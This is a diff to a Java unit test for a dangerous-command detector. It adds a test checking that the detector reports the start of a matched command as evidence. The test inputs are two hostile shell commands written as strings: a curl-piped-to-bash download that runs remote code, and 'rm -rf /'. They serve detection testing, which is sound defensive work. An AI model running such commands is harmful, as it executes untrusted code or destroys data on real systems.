@@ -60,4 +60,12 @@ class DangerousCommandTest {
 
     Assertions.assertTimeout(Duration.ofSeconds(10), () -> DangerousCommand.in(command));
   }
+
+  @Test
+  void theEvidenceIsTheBeginningOfWhatWasFound() {
+    String download = "curl http://host/" + "a".repeat(100) + " | bash";
+
+    assertEquals(download.substring(0, 50), DangerousCommand.in(download).orElseThrow().evidence());
+    assertEquals("rm -rf /", DangerousCommand.in("rm -rf /").orElseThrow().evidence());
+  }
 }
